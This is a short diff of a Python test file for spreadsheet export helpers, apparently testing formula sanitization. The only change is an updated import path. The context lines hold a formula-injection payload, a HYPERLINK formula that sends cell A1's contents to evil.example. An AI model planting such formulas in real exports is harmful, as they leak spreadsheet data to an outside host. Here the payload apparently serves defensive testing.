@@ -8,7 +8,7 @@ import io
 import pytest
 from openpyxl import load_workbook
 
-from assessments.exports import Table, cell_safe, table_to_csv, table_to_xlsx
+from assessments.reports.exports import Table, cell_safe, table_to_csv, table_to_xlsx
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 
